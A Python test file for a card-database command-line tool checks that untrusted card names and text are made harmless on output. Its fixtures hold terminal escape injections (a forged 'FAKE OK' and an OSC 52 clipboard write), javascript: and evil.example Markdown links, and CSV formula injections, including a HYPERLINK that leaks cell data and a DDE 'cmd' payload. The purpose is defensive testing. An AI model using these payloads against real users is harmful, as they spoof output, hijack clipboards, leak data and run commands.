"""Card text from a downloaded database is shown, never obeyed (findings I1-I3): every
line written for people has its control characters made visible (one mechanism:
tagtext.controls.visible, written by tagtext.cli.streams), on a terminal or through a
pipe; JSON stays exact; Markdown and CSV carry no live link or formula."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess

import pytest

from tagtext.controls import json_escaped, visible

from .conftest import GOOD, TAGTEXT, run, write_json

#: window title, clear screen, a forged colour, a clipboard write (OSC 52), a one-byte CSI
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mFAKE OK\x1b[0m\x1b]52;c;ZWNobyBwd25lZA==\x07\x9b2J"
CONTROLS = [chr(c) for c in range(0x20) if chr(c) not in "\t\n"] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)]


def test_visible_leaves_no_control_character_but_tab_and_line_feed():
    shown = visible("".join(CONTROLS) + "a\tb\r\nc")
    assert not any(c in shown for c in CONTROLS if c != "\r")
    assert shown.endswith("a\tb\r\nc")                     # \r\n kept, a lone \r shown
    assert visible("\x1b[2J") == "\u241b[2J" and visible("\x00") == "\u2400" and visible("\x9b") == "\ufffd"
    assert visible("\x1b[31mred\x1b[0m " + visible(ESCAPES), keep_sgr=True).count("\x1b") == 2


def test_json_keeps_values_exact_and_escapes_what_a_terminal_obeys():
    doc = json.dumps({"name": ESCAPES + "\x7f"}, ensure_ascii=False)
    escaped = json_escaped(doc)
    assert json.loads(escaped) == json.loads(doc)
    assert not any(c in escaped for c in CONTROLS)


@pytest.fixture
def sides(tmp_path):
    old = write_json(tmp_path / "old.json", [{**GOOD, "name": "Agumon"}])
    new = write_json(tmp_path / "new.json", [{**GOOD, "name": "Agumon" + ESCAPES,
                                              "effect": GOOD["effect"] + ESCAPES}])
    return old, new


def _on_a_terminal(*args) -> bytes:
    """What the script writes to a pseudo-terminal (colour on, as for a person)."""
    leader, follower = pty.openpty()
    proc = subprocess.Popen([str(TAGTEXT), *map(str, args)], stdout=follower, stderr=follower,
                            env={**os.environ, "TERM": "xterm"})
    os.close(follower)
    out = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:
            break
        if not chunk:
            break
        out += chunk
    proc.wait(timeout=120)
    os.close(leader)
    return out


def _colours_only(text: str) -> bool:
    """Every ESC in ``text`` starts one of tagtext's own colour codes."""
    import re
    return "\x07" not in text and "\x9b" not in text and not re.search("\x1b(?!\\[(?:0|1|31|32)m)", text)


def test_diff_shows_escapes_on_a_terminal_and_through_a_pipe(sides):
    """I1: the card's name and text are shown with their escapes made visible; on a
    terminal only tagtext's own colours remain, through a pipe nothing."""
    old, new = sides
    shown = _on_a_terminal("diff", old, new).decode()
    assert _colours_only(shown) and "\x1b[32m" in shown
    assert "Agumon\u241b]0;PWNED\u2407\u241b[2J" in shown
    piped = run("diff", old, new)
    assert not any(c in piped.stdout for c in CONTROLS)
    assert "Agumon\u241b]0;PWNED\u2407" in piped.stdout


def test_deck_check_and_rewrite_show_escapes(tmp_path):
    """I1: deck check prints names from --db, rewrite prints the text and its warnings:
    visible too, on stdout and stderr."""
    db = write_json(tmp_path / "db.json", [{"id": "BT1-010", "name": "Agumon" + ESCAPES, "cardType": "Digimon"},
                                          *({"id": f"BT1-{i:03d}", "name": "x"} for i in range(20, 40))])
    deck = tmp_path / "d.txt"
    deck.write_text("5 BT1-010\n")
    result = run("deck", "check", deck, "--db", db)
    assert "Agumon\u241b]0;PWNED" in result.stdout
    for out in (result.stdout, result.stderr, run("rewrite", "Draw 1." + ESCAPES).stdout,
                run("rewrite", "--card", "BT1-\x1b[2J", "Draw 1.").stderr):
        assert not any(c in out for c in CONTROLS)


def test_json_output_escapes_them(sides):
    """I1: diff --json keeps the name exact, with no raw control character."""
    old, new = sides
    result = run("diff", old, new, "--json")
    assert not any(c in result.stdout for c in CONTROLS)
    assert json.loads(result.stdout)["changed"][0]["name"] == "Agumon" + ESCAPES


def test_convert_data_is_exact_in_a_file_and_visible_on_a_terminal(tmp_path, sides):
    """I1: convert's CSV through a pipe or into a file is the data byte for byte; on a
    terminal it is shown."""
    _, new = sides
    out = tmp_path / "out.csv"
    assert run("-q", "convert", new, "-o", out).exit_code == 0
    assert ESCAPES in out.read_text()
    shown = _on_a_terminal("-q", "convert", new, "--format", "csv").decode()
    assert "\x1b" not in shown and "Agumon\u241b]0;PWNED" in shown


def test_markdown_links_and_images_are_text(tmp_path):
    """I2: a name or text holding a Markdown link or image (tracking pixel, javascript:)
    is escaped so no renderer makes it live, in convert's md and the file name heading."""
    db = write_json(tmp_path / "[x](javascript:alert(1)).json", [
        {"id": "BT1-001", "name": "![t](http://evil.example/x.png)",
         "effect": "[x](javascript:alert(5)) Both players draw 2 cards."}])
    md = run("-q", "convert", db, "--format", "md").stdout
    assert "](" not in md.replace("]\\(", "")
    assert "![t]\\(http://evil.example/x.png)" in md and "[x]\\(javascript:alert(5))" in md


def test_csv_cells_never_run_as_formulas(tmp_path):
    """I3: a cell a spreadsheet would run (=, +, -, @, tab) gets a ' before it."""
    db = write_json(tmp_path / "f.json", [
        {"id": "BT1-001", "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
         "effect": "=cmd|' /C calc'!A0 Both players draw 2 cards."},
        {"id": "BT1-002", "name": "@SUM(1+1)", "effect": "+1 Both players draw 2 cards."}])
    rows = list(csv.DictReader(io.StringIO(run("-q", "convert", db, "--format", "csv").stdout)))
    for row in rows:
        for column in ("id", "name", "set", "original", "text"):
            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    assert rows[0]["name"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")'
